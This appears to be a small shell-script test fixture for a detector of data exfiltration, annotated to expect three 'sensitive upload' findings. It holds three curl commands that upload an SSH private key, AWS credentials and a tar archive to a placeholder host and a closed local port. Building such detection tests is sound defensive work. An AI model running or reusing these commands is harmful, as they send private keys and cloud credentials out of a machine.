#!/bin/sh
# Keys are uploaded, to a closed port.
# expects: exfiltration_sensitive_upload 3

curl -s -T /root/.ssh/id_ed25519 https://files.example/
curl -s --data-binary @/root/.aws/credentials https://files.example/
curl -s -F file=@/tmp/all.tgz http://127.0.0.1:9/
